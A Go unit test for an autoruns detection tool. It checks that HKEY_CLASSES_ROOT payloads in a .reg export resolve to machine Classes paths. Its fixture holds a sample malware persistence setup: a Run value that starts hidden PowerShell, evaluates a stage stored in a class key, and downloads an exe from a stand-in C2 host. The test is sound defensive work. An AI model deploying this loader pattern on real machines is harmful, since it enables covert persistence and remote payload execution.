package autoruns_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/runkeyhunt/runkeyhunt/tables/autoruns"
)

// hkcrReg is a .reg export whose payload lives under HKEY_CLASSES_ROOT
// (reg export HKCR spells it so) and is read by a Run value through the
// PowerShell drive HKCR:, as loaders that hide their stage in a class key
// do.
const hkcrReg = "Windows Registry Editor Version 5.00\r\n\r\n" +
	"[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n" +
	"\"Stage\"=\"powershell -nop -w hidden -c \\\"iex (Get-ItemProperty -Path 'HKCR:\\\\AppXk2v9\\\\Shell' -Name d).d\\\"\"\r\n" +
	"\"Gone\"=\"powershell -nop -w hidden -c \\\"iex (Get-ItemProperty -Path 'HKCR:\\\\AppXgone\\\\Shell' -Name d).d\\\"\"\r\n" +
	"\r\n[HKEY_CLASSES_ROOT\\AppXk2v9\\Shell]\r\n" +
	"\"d\"=\"Invoke-WebRequest http://c2.example.invalid/a -OutFile $env:TEMP\\\\a.exe\"\r\n"

// TestHKCRRegMapsToMachineClasses: HKEY_CLASSES_ROOT keys of a .reg
// export are the machine's SOFTWARE\Classes, and an HKCR: reference in a
// command reads them there; payload_path is canonical whether the value
// exists or not.
func TestHKCRRegMapsToMachineClasses(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "hkcr.reg"), []byte(hkcrReg), 0o644); err != nil {
		t.Fatal(err)
	}
	rows, err := scanTree(t, dir, t.Errorf)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]struct {
		path   string
		exists int
	}{
		"Stage": {`HKEY_LOCAL_MACHINE\SOFTWARE\Classes\AppXk2v9\Shell\d`, 1},
		"Gone":  {`HKEY_LOCAL_MACHINE\SOFTWARE\Classes\AppXgone\Shell\d`, 0},
	}
	seen := map[string]autoruns.Row{}
	for _, r := range rows {
		seen[r.Name] = r
	}
	for name, w := range want {
		r, ok := seen[name]
		if !ok {
			t.Errorf("no row for %s", name)
			continue
		}
		if r.PayloadKind != "registry" || r.PayloadPath != w.path || r.PayloadExists != w.exists {
			t.Errorf("%s: payload %s %q exists=%d, want registry %q exists=%d", name, r.PayloadKind, r.PayloadPath, r.PayloadExists, w.path, w.exists)
		}
	}
	if r := seen["Stage"]; r.PayloadPreview == "" {
		t.Error("Stage: no payload preview: the HKCR payload was not read")
	}
}
